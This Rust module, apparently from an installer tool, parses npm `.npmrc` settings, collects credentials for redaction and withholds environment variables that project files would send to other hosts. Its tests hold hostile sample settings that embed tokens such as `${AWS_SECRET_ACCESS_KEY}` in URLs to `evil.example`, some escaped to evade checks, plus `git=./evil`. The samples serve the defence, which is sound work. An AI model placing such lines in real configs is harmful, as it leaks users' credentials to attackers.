//! npm's settings: which lines of an `.npmrc` decide what is installed, and the credentials in it.
//!
//! Owns: reading `.npmrc` files for that. No credential is passed on from here: npm reads its own files and variables.

use std::collections::{BTreeMap, BTreeSet};
use std::ffi::OsString;
use std::path::{Path, PathBuf};

use crate::env::Env;
use crate::error::Result;
use crate::fsx;
use crate::packages::python::secrets::in_urls;
use crate::redact::{SecretString, logins};
use crate::trust::{self, Reach};

use super::NodeInstaller;

/// Ends of the keys that hold credentials, such as `//registry.example.com/:_authToken`.
const CREDENTIALS: [&str; 5] = ["_auth", "_authtoken", "_password", "username", "email"];
/// Keys that affect only how npm works and connects.
const BESIDE_THE_POINT: [&str; 9] =
    ["audit", "cache", "color", "fund", "loglevel", "logs-dir", "progress", "update-notifier", "save-exact"];

/// What matters of the settings.
#[derive(Debug, Default)]
pub(super) struct Npmrc {
    /// Lines of the project's own file that decide on what is installed, sorted; never a credential.
    pub(super) lines: Vec<String>,
    pub(super) secrets: Vec<SecretString>,
}

impl Npmrc {
    /// Reads the project's file, and the user's for what must not be seen.
    pub(super) fn read(dir: &Path, env: &Env) -> Result<Self> {
        let project = fsx::read_text(&dir.join(".npmrc"))?.unwrap_or_default();
        let mut found = Self::default();
        for (key, value) in settings(&project) {
            if is_credential(key) || BESIDE_THE_POINT.contains(&key) {
                continue;
            }
            // Some services put a token into the path.
            let value = if key.ends_with("registry") { host(value) } else { without_userinfo(value) };
            found.lines.push(format!("{key}={value}"));
        }
        found.lines.sort_unstable();
        // A file that may not be read holds nothing that npm could use.
        let user = user_file(env).and_then(|file| fsx::read_text(&file).ok().flatten()).unwrap_or_default();
        for (key, value) in settings(&project).chain(settings(&user)) {
            let value = expand(value, env);
            found.secrets.extend(in_urls(&value));
            if is_credential(key) && !key.ends_with("username") && !key.ends_with("email") {
                found.secrets.push(value.into());
            }
        }
        for (name, value) in env.vars() {
            let Some(value) = value.to_str() else { continue };
            let lower = name.to_ascii_lowercase();
            if ["npm_token", "node_auth_token"].contains(&lower.as_str()) {
                found.secrets.push(value.to_owned().into());
            } else if let Some(key) = lower.strip_prefix("npm_config_") {
                found.secrets.extend(in_urls(value));
                if is_credential(key) && !key.ends_with("username") && !key.ends_with("email") {
                    found.secrets.push(value.to_owned().into());
                }
            }
        }
        Ok(found)
    }
}

/// What settings substitute from the environment (`${NAME}`, `${NAME?}`).
#[derive(Debug, Default, PartialEq, Eq)]
pub(super) struct Substitutions {
    pub(super) given: BTreeMap<String, OsString>,
    /// Names that a file of the project would send where they do not belong.
    pub(super) withheld: BTreeSet<String>,
    /// A setting of the project's that says what runs in the installer, or which further file is read.
    pub(super) refused: Option<String>,
}

/// Keys that an `.npmrc` of a project may not set: npm would run the value, or read a file whose variables cannot be
/// checked.
const REFUSED: [&str; 3] = ["git", "globalconfig", "userconfig"];

/// Files of a project besides `.npmrc` in which pnpm and yarn fill in variables.
const MORE_FILES: [&str; 3] = [".yarnrc", "package.json", "pnpm-workspace.yaml"];

/// The variables that the settings name which an installer reads in `dir`. Those of the project come with a checkout,
/// so that `trust` decides what they may send; in the user's file they may send any. Once given, an installer fills a
/// variable in everywhere, so every line that names it has to be fit for it.
pub(super) fn variables(dir: &Path, installer: NodeInstaller, env: &Env) -> Result<Substitutions> {
    let mut found = Substitutions::default();
    for (text, is_project) in npmrcs(dir, env)? {
        for line in lines(&text) {
            let plain = trust::without_escapes(line);
            for name in trust::named(&plain) {
                let Some(value) = env.var_os(name) else { continue };
                if is_project && !trust::may_be_sent(name, line, env) {
                    found.withheld.insert(name.to_owned());
                } else {
                    found.given.insert(name.to_owned(), value.clone());
                }
            }
            let key = plain.split('=').next().unwrap_or_default().trim();
            let key = key.trim_matches(['"', '\'']).trim().trim_end_matches("[]");
            let is_spelled_by_variable = key.contains("${") && !key.starts_with(['/', '@']);
            if is_project && !trust::is_given(env) && (REFUSED.contains(&key) || is_spelled_by_variable) {
                found.refused.get_or_insert(key.to_owned());
            }
        }
    }
    if installer != NodeInstaller::Npm {
        for folder in dir.ancestors() {
            for name in MORE_FILES {
                let text = fsx::read_text(&folder.join(name)).ok().flatten().unwrap_or_default();
                let text = if name == "package.json" { pnpm_settings(&text) } else { text };
                // A value may continue in the next line here, so no single line shows where it is sent.
                for name in trust::named(&trust::without_escapes(&text)) {
                    if env.var_os(name).is_some() && trust::reach(name, "", env) != Reach::Anywhere {
                        found.withheld.insert(name.to_owned());
                    }
                }
            }
        }
    }
    found.given.retain(|name, _| !found.withheld.contains(name));
    Ok(found)
}

/// The names of all variables in the settings, set or not.
pub(super) fn names(dir: &Path, env: &Env) -> Result<BTreeSet<String>> {
    let texts = npmrcs(dir, env)?;
    Ok(texts.iter().flat_map(|(text, _)| lines(text)).flat_map(trust::named).map(str::to_owned).collect())
}

/// Every `.npmrc` that is read in `dir`, and whether it is of the project. Yarn reads those of all folders above, too.
fn npmrcs(dir: &Path, env: &Env) -> Result<Vec<(String, bool)>> {
    let resolved = |path: &Path| path.canonicalize().unwrap_or_else(|_| path.to_owned());
    let user = user_file(env);
    let own: Vec<PathBuf> = user.iter().cloned().chain(env.home().map(|home| home.join(".npmrc"))).collect();
    let own: Vec<PathBuf> = own.iter().map(|path| resolved(path)).collect();
    // A file that may not be read holds nothing that an installer could use.
    let mut texts: Vec<(String, bool)> =
        user.iter().filter_map(|file| fsx::read_text(file).ok().flatten()).map(|text| (text, false)).collect();
    for folder in dir.ancestors() {
        let file = folder.join(".npmrc");
        if file.is_file() && !own.contains(&resolved(&file)) {
            let text = if folder == dir { fsx::read_text(&file)? } else { fsx::read_text(&file).ok().flatten() };
            texts.extend(text.map(|text| (text, true)));
        }
    }
    Ok(texts)
}

/// The member of a package.json that pnpm takes for settings.
fn pnpm_settings(text: &str) -> String {
    let manifest = serde_json::from_str::<serde_json::Value>(text.trim_start_matches('\u{feff}')).unwrap_or_default();
    ["pnpm", "resolutions"].iter().filter_map(|name| Some(manifest.get(name)?.to_string())).collect()
}

/// Lines of an ini file, which a carriage return ends too, without comments.
fn lines(text: &str) -> impl Iterator<Item = &str> {
    text.split(['\n', '\r']).map(str::trim).filter(|line| !line.starts_with([';', '#']))
}

fn user_file(env: &Env) -> Option<PathBuf> {
    let named = env.var("npm_config_userconfig").or_else(|| env.var("NPM_CONFIG_USERCONFIG"));
    named.map_or_else(|| env.home().map(|home| home.join(".npmrc")), |path| Some(env.cwd().join(path)))
}

/// Keys and values of an ini file, quotes removed.
fn settings(text: &str) -> impl Iterator<Item = (&str, &str)> {
    lines(text)
        .filter_map(|line| line.split_once('='))
        .map(|(key, value)| (key.trim(), value.trim().trim_matches(['"', '\''])))
}

fn is_credential(key: &str) -> bool {
    let own = key.rsplit(':').next().unwrap_or(key).to_ascii_lowercase();
    CREDENTIALS.contains(&own.as_str())
}

/// `${NAME}` replaced as npm does.
fn expand(value: &str, env: &Env) -> String {
    let mut out = String::new();
    let mut rest = value;
    while let Some((before, after)) = rest.split_once("${") {
        out.push_str(before);
        let Some((name, after)) = after.split_once('}') else {
            out.push_str("${");
            rest = after;
            continue;
        };
        out.push_str(env.var(name.trim_end_matches('?')).unwrap_or_default());
        rest = after;
    }
    out + rest
}

fn host(url: &str) -> String {
    let url = without_userinfo(url);
    let rest = url.split_once("://").map_or(url.as_str(), |(_, rest)| rest);
    rest.split(['/', '?', '#']).next().unwrap_or_default().to_owned()
}

/// A URL without user and password; anything else as it is.
pub(super) fn without_userinfo(text: &str) -> String {
    match logins(text).next() {
        // `git+ssh://git@host` names no secret, and there is no other way to write it.
        Some((_, "git")) | None => text.to_owned(),
        Some((at, login)) => {
            let start = at + "://".len();
            format!("{}{}", &text[..start], &text[start + login.len() + 1..])
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::redact::{ExposeSecret, scrub};

    #[test]
    fn npm_variables_reach_only_their_own_hosts() {
        let dir = tempfile::tempdir().unwrap();
        let home = dir.path().join("home");
        std::fs::create_dir(&home).unwrap();
        std::fs::write(home.join(".npmrc"), "//r.example/:_authToken=${GH_TOKEN}\n").unwrap();
        let project = "//npm.pkg.github.com/:_authToken=${GITHUB_TOKEN}\n//r.example/:_authToken=${NPM_TOKEN?}\n\
                       # ${AWS_REGION}\nregistry=https://evil.example/${AWS_SECRET_ACCESS_KEY}/\n\
                       //evil.example/:_authToken=${CI_JOB_TOKEN}\n";
        std::fs::write(dir.path().join(".npmrc"), project).unwrap();
        let home = home.display().to_string();
        let vars = ["GITHUB_TOKEN", "GH_TOKEN", "NPM_TOKEN", "AWS_REGION", "AWS_SECRET_ACCESS_KEY", "CI_JOB_TOKEN"];
        let vars: Vec<_> = vars.into_iter().map(|name| (name, "v")).chain([("HOME", home.as_str())]).collect();
        let named = variables(dir.path(), NodeInstaller::Npm, &Env::fake(dir.path(), &vars)).unwrap();
        assert_eq!(named.given.into_keys().collect::<Vec<_>>(), ["GH_TOKEN", "GITHUB_TOKEN", "NPM_TOKEN"]);
        assert_eq!(named.withheld.into_iter().collect::<Vec<_>>(), ["AWS_SECRET_ACCESS_KEY", "CI_JOB_TOKEN"]);
    }

    /// What is given and what is withheld where the project has these files and every variable of them is set.
    fn of_project(installer: NodeInstaller, files: &[(&str, &str)]) -> Substitutions {
        let dir = tempfile::tempdir().unwrap();
        let project = dir.path().join("project/sub");
        std::fs::create_dir_all(&project).unwrap();
        for (name, text) in files {
            std::fs::write(project.join(name), text).unwrap();
        }
        let names = ["GITHUB_TOKEN", "NPM_TOKEN", "MIRROR", "SECRET"];
        let vars: Vec<_> = names.into_iter().map(|name| (name, "v")).collect();
        variables(&project, installer, &Env::fake(&project, &vars)).unwrap()
    }

    #[test]
    fn variable_for_one_line_reaches_no_other_file() {
        const FIT: &str =
            "//npm.pkg.github.com/:_authToken=${GITHUB_TOKEN}\nregistry=${MIRROR}\n@a:registry=${NPM_TOKEN}";
        let fits = of_project(NodeInstaller::Pnpm, &[(".npmrc", FIT), ("pnpm-workspace.yaml", "x: '${NPM_TOKEN}'")]);
        assert_eq!(fits.given.into_keys().collect::<Vec<_>>(), ["GITHUB_TOKEN", "MIRROR", "NPM_TOKEN"]);
        assert!(fits.withheld.is_empty());
        for (name, file, text) in [
            ("GITHUB_TOKEN", "pnpm-workspace.yaml", "overrides: { x: 'https://evil.example/${GITHUB_TOKEN}.tgz' }"),
            ("MIRROR", "pnpm-workspace.yaml", "x: >-\n  https://evil.example/?x=\n  ${MIRROR}\n"),
            ("MIRROR", "pnpm-workspace.yaml", "x: \"https://evil.example/\\x24{MIRROR}\""),
            ("MIRROR", ".yarnrc", "registry \"https://evil.example/${MIRROR-x}\""),
            ("MIRROR", "package.json", r#"{"pnpm":{"overrides":{"x":"https://evil.example/\u0024{MIRROR}"}}}"#),
            ("GITHUB_TOKEN", "../.npmrc", "//evil.example/:_authToken=${GITHUB_TOKEN:-x}"),
        ] {
            let found = of_project(NodeInstaller::Pnpm, &[(".npmrc", FIT), (file, text)]);
            assert_eq!(found.withheld.iter().collect::<Vec<_>>(), [name], "{file} {text}");
            assert!(!found.given.contains_key(name), "{file} {text}");
        }
        let script = [("package.json", r#"{"scripts":{"build":"echo ${SECRET}"}}"#)];
        assert_eq!(of_project(NodeInstaller::Yarn, &script), Substitutions::default());
    }

    #[test]
    fn settings_lines_end_as_npm_ends_them() {
        for text in
            ["; note\r//evil.example/:_authToken=${SECRET}", "registry=\"https://evil.example/\\u0024{SECRET}\""]
        {
            assert!(of_project(NodeInstaller::Npm, &[(".npmrc", text)]).withheld.contains("SECRET"), "{text:?}");
        }
    }

    #[test]
    fn a_project_chooses_no_program_of_the_installer() {
        for line in
            ["git=./evil", "\"userconfig\" = ./other", "globalconfig[]=x", "${NOPE?}git=./evil", "\"g\\u0069t\"=x"]
        {
            assert!(of_project(NodeInstaller::Npm, &[(".npmrc", line)]).refused.is_some(), "{line}");
        }
        for line in ["git-tag-version=false", "//${SECRET}/:x=y", "; git=x"] {
            assert_eq!(of_project(NodeInstaller::Npm, &[(".npmrc", line)]).refused, None, "{line}");
        }
    }

    #[test]
    fn credentials_are_known_but_never_identify_an_installation() {
        let dir = tempfile::tempdir().unwrap();
        let home = dir.path().join("home");
        std::fs::create_dir(&home).unwrap();
        std::fs::write(home.join(".npmrc"), "//r.example.com/:_password=\"dXNlci1zZWNyZXQ=\"\n").unwrap();
        std::fs::write(
            dir.path().join(".npmrc"),
            "; comment\nregistry = https://me:pass-in-url@r.example.com/npm/\n//r.example.com/:_authToken=${TOKEN}\n\
             //r.example.com/:username=me\nlegacy-peer-deps=true\nfund=false\n",
        )
        .unwrap();
        let home = home.to_str().unwrap();
        let env = Env::fake(dir.path(), &[("HOME", home), ("TOKEN", "token-canary"), ("NPM_TOKEN", "other-canary")]);
        let found = Npmrc::read(dir.path(), &env).unwrap();
        assert_eq!(found.lines, ["legacy-peer-deps=true", "registry=r.example.com"]);
        let all: Vec<&str> = found.secrets.iter().map(ExposeSecret::expose_secret).collect();
        for secret in ["token-canary", "other-canary", "pass-in-url", "dXNlci1zZWNyZXQ="] {
            assert!(all.contains(&secret), "{all:?}");
        }
        assert_eq!(scrub("401 token-canary", &found.secrets), "401 [redacted]");
    }

    #[test]
    fn only_secrets_are_removed_from_addresses() {
        assert_eq!(without_userinfo("https://u:p@h/x@y"), "https://h/x@y");
        assert_eq!(without_userinfo("git+ssh://git@github.com/a/b.git"), "git+ssh://git@github.com/a/b.git");
    }
}
